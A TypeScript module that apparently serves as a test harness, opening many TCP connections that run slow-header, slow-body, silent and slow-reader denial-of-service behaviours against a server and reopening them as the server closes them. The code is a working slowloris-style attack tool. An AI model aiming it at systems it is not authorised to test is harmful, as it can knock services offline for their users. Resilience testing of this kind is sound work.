import net from 'node:net';

/** An attack that continues until it is stopped. */
export interface Attack {
  readonly what: string;
  /** Closes every connection. Returns how many were opened, and how many of them the server had closed before. */
  stop(): { readonly closed: number; readonly opened: number };
}

/** The behaviour of an attacking connection. */
interface Behaviour {
  readonly what: string;
  /** Sent at once. */
  readonly first: string;
  /** Sent every second after that; empty for nothing. */
  readonly drip: string;
  /** Whether it reads the answers. */
  readonly reads: boolean;
}

const host = 'Host: attacked.example';
const length = 'Content-Length: 60000\r\nContent-Type: application/json';

/** Behaviours of known attacks by anonymous clients. */
export const behaviours: readonly Behaviour[] = [
  { what: 'slow heads', first: `GET /healthz HTTP/1.1\r\n${host}\r\nX: `, drip: 'a', reads: true },
  { what: 'silence', first: '', drip: '', reads: true },
  {
    what: 'slow bodies',
    first: `POST /api/v1/auth/login HTTP/1.1\r\n${host}\r\n${length}\r\n\r\n`,
    drip: ' ',
    reads: true,
  },
  { what: 'drips after an error', first: 'GET\r\n\r\n', drip: 'a', reads: true },
  {
    what: 'drips after a refusal',
    first: `POST /api/v1/hosts/manual HTTP/1.1\r\n${host}\r\n${length}\r\n\r\n`,
    drip: ' ',
    reads: true,
  },
  {
    what: 'empty lines after an answer',
    first: `GET /healthz HTTP/1.1\r\n${host}\r\n\r\n`,
    drip: '\r\n',
    reads: true,
  },
  {
    what: 'slow readers',
    first: `GET /api/v1/openapi.json HTTP/1.1\r\n${host}\r\n\r\n`.repeat(20),
    drip: '',
    reads: false,
  },
];

/** Keeps `sockets` connections of one behaviour open: those that the server closes are opened again within a second. */
export function attack(url: string, sockets: number, behaviour: Behaviour): Attack {
  const { hostname, port } = new URL(url);
  const open = new Set<net.Socket>();
  let opened = 0;
  let closed = 0;
  const connect = (): void => {
    const socket = net.connect({ port: Number(port), host: hostname, allowHalfOpen: true });
    opened += 1;
    open.add(socket);
    socket.on('error', () => undefined);
    const closedByServer = () => {
      if (open.delete(socket)) closed += 1;
      socket.destroy();
    };
    socket.on('end', closedByServer);
    socket.on('close', closedByServer);
    socket.on('connect', () => socket.write(behaviour.first));
    if (behaviour.reads) socket.resume();
  };
  const tick = (): void => {
    if (behaviour.drip !== '') for (const socket of open) socket.write(behaviour.drip);
    // At most a tenth at a time, or the attacker itself would be slow.
    for (let n = 0; n < sockets / 10 && open.size < sockets; n += 1) connect();
  };
  const timer = setInterval(tick, 1_000);
  tick();
  return {
    what: behaviour.what,
    stop() {
      clearInterval(timer);
      const left = [...open];
      open.clear();
      for (const socket of left) socket.destroy();
      return { closed, opened };
    },
  };
}
